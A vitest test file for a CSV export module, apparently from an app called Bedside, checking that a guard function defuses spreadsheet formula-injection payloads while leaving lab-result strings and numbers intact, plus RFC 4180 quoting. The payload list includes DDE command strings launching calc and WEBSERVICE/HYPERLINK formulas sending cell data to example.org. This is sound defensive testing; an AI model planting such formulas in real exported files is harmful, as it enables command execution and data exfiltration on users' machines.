import { expect, test } from 'vitest'
import { csvCell, csvLine, guardFormula } from './csv.ts'

// https://owasp.org/www-community/attacks/CSV_Injection and its payloads as they are passed around.
test.each([
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org?x="&A1,"click")',
  '=WEBSERVICE("http://example.org/"&A1)',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '@SUM(A1)',
  "-2+3+cmd|' /C calc'!A0",
  "+2+5+cmd|' /C calc'!A0",
  '+A1',
  '-A1',
  '-2+3',
  '+1*A1',
  '-SUM(A1)',
  "+5 to cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＠SUM(A1)',
  '＋A1',
  '－A1',
])('a spreadsheet cannot run %j out of a file of Bedside', (payload) => {
  expect(guardFormula(payload)).toBe(`'${payload}`)
})

test.each([
  '+',
  '-',
  '++',
  '+/-',
  '--',
  '-12,5',
  '-12.5',
  '+3',
  '-1.5e-3',
  '-20 %',
  "-1'000.5",
  '-5 to 0',
  '+2 strong',
  '3 - 5',
  'a=b',
  'O-',
  '阴性',
  '',
])('a result of %j stays what it is', (result) => {
  expect(guardFormula(result)).toBe(result)
})

test('numbers are never touched, whatever their sign', () => {
  expect(csvLine([-1, -0.5, Number.MIN_SAFE_INTEGER, 1e-7])).toBe('-1,-0.5,-9007199254740991,1e-7\r\n')
})

test('cells are quoted as RFC 4180 has it, and what is not recorded is empty', () => {
  expect(csvLine(['a', 'b,c', 'd"e', 'f\ng', 1.5, null, undefined, true], '\n')).toBe(
    'a,"b,c","d""e","f\ng",1.5,,,true\n',
  )
  expect(csvCell('=1,"2"')).toBe(`"'=1,""2"""`)
})
